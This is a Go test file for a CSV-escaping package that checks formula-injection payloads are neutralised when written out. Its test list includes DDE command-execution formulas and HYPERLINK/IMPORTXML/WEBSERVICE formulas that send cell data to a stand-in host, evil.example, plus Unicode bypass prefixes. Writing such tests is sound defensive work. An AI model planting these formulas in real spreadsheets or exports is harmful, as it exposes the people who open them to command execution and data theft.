package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"samsyn/internal/csvsafe"
)

// formulas are texts of a source that a spreadsheet would run (access.md, T27; ASVS 1.2.10).
var formulas = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example?x="&A1,"se her")`,
	`=IMPORTXML(CONCAT("http://evil.example?", A1), "//a")`, `=WEBSERVICE("http://evil.example")`, `=DDE("cmd";"/C calc";"x")`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
	"＝1+1", "＋1", "－1+1", "＠SUM(1)", "|calc", "%0A-3+3", `=1";=2`, `"=1+1"` + "\n=2", "-A1", "+47 22 00 00 00", "--1", "-1+1", "=", "@", "\x00=1+1", "\x0b=1",
}

func TestNothingIsAFormula(t *testing.T) {
	for _, f := range formulas {
		var b bytes.Buffer
		w := csvsafe.NewWriter(&b)
		if err := w.Write("før", f, "etter"); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		if !strings.HasSuffix(b.String(), "\r\n") {
			t.Errorf("%q: the line is not ended as RFC 4180 says", f)
		}
		rows, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 3 || rows[0][0] != "før" || rows[0][2] != "etter" {
			t.Errorf("%q leaves its field: %q, %v", f, rows, err)
			continue
		}
		if got := rows[0][1]; !strings.HasPrefix(got, "'") && !strings.HasPrefix(got, `"`) {
			t.Errorf("%q is written as %q", f, got)
		}
	}
}

func TestOtherTextIsLeftAlone(t *testing.T) {
	for _, s := range []string{"", "Ella Lyngstad", "12", "-12", "-1,5", "0.5", "a=b", "e-post", "5 + 5", "linje 1\nlinje 2", `han sa "hei"`, "æ"} {
		if got := csvsafe.Plain(s); got != s {
			t.Errorf("%q is written as %q", s, got)
		}
	}
}

func FuzzPlain(f *testing.F) {
	for _, s := range formulas {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			return
		}
		got := csvsafe.Plain(s)
		if strings.ContainsAny(got[:min(1, len(got))], "=+@\t\r\n\x00|%") {
			t.Fatalf("%q is written as %q", s, got)
		}
		if csvsafe.Plain(got) != got {
			t.Fatalf("%q is written as %q, and that as %q", s, got, csvsafe.Plain(got))
		}
	})
}
